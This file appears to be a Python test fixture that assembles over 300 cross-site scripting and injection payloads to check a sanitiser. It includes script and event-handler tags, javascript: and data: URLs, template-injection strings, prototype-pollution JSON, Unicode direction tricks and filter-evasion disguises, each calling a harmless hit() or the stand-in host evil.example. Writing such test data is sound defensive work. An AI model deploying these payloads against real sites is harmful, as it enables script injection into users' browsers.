"""300 and more texts that try to run as a script, to fetch from elsewhere, or to mislead the eye.

Each calls `hit()` if it runs and asks evil.example for something if it loads.
"""

from __future__ import annotations

from html import escape
from urllib.parse import quote

CALL = "hit()"
ELSEWHERE = "https://evil.example/x"

MARKUP = [
    f"<script>{CALL}</script>",
    f"<script src={ELSEWHERE}></script>",
    f"<img src=x onerror={CALL}>",
    f"<img src={ELSEWHERE}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<object data=javascript:{CALL}></object>",
    f"<embed src={ELSEWHERE}>",
    f"<body onload={CALL}>",
    f"<details open ontoggle={CALL}><summary>x</summary></details>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}><option>x</select>",
    f"<textarea autofocus onfocus={CALL}></textarea>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<a href=javascript:{CALL}>click</a>",
    f"<a href='data:text/html,<script>{CALL}</script>'>click</a>",
    f"<form action=javascript:{CALL}><button>x</button></form>",
    f"<button formaction=javascript:{CALL} form=f>x</button>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    f"<link rel=stylesheet href={ELSEWHERE}>",
    f"<style>@import '{ELSEWHERE}';</style>",
    f"<style>*{{background:url({ELSEWHERE})}}</style>",
    f"<div style=background:url({ELSEWHERE})>x</div>",
    f"<base href={ELSEWHERE}>",
    f"<template><script>{CALL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<slot onslotchange={CALL}></slot>",
    f"<dialog open onclose={CALL}>x</dialog>",
    f"<img srcset='{ELSEWHERE} 1x'>",
    f"<picture><source srcset={ELSEWHERE}><img></picture>",
    f"<input type=image src={ELSEWHERE}>",
    f"<table background={ELSEWHERE}><tr><td>x</table>",
    f"<afterglow-chat server={ELSEWHERE} open></afterglow-chat>",
    f"<p onpointerover={CALL} onmouseover={CALL} onfocus={CALL} tabindex=0>x</p>",
]
PLAIN = [
    f"javascript:{CALL}",
    f"java\tscript:{CALL}",
    f" javascript://%0a{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"vbscript:{CALL}",
    f"[click](javascript:{CALL})",
    f"![x]({ELSEWHERE})",
    f"[x]: {ELSEWHERE} 'x'",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"${{{CALL}}}",
    f"`${{{CALL}}}`",
    f"<%= {CALL} %>",
    f"#{{{CALL}}}",
    f'"-{CALL}-"',
    f"';{CALL};//",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    '{"__proto__": {"innerHTML": "<img src=x onerror=hit()>"}}',
    "__proto__",
    "constructor",
    "toString",
    "/restart",
    '/affirm{"patient": "P-EVIL"}',
    "\u202e)(tih\u202c <- hit()",
    "\u2066\u2067\u202e turned \u2069 around",
    "\u200f\u061c\u202b right to left without an end",
    "a\u0301\u0301\u0301" * 40,
    "in\ufeff\u200b\u200d\u2060visible",
    "\u2028alert(1)\u2029",
    "\ud7ff\ue000\ufffd odd",
    "<" * 500,
    "&lt;script&gt;hit()&lt;/script&gt;",
    "event: message\ndata: {}\n\n",
]


def disguises(markup: str) -> list[str]:
    """One piece of markup as itself and in the dresses that filters are known to miss."""
    return [
        markup,
        markup.swapcase().replace("HIT()", "hit()"),
        f'"><!--{markup}-->{markup}',
        f"</textarea></title></script></style>{markup}",
        f"{markup[:1]}\x0c{markup[1:]}",
        escape(markup),
        quote(markup),
    ]


PAYLOADS = [*PLAIN, *(dressed for markup in MARKUP for dressed in disguises(markup))]
